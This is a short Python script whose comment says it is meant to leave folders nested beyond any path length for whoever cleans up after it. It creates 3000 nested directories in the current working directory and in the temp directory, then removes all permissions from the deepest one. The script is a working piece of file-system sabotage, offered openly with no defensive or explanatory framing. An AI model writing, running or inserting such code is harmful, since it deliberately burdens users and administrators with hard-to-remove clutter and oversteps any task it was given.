# Leaves folders in folders, deeper than any path can be long, for whoever cleans up after it.
import os

made = 0
for place in (os.getcwd(), os.environ["TMPDIR"]):
    os.chdir(place)
    for _ in range(3000):
        os.mkdir("deeper")
        os.chdir("deeper")
        made += 1
    os.chmod(".", 0)
print("attempts made:", made)
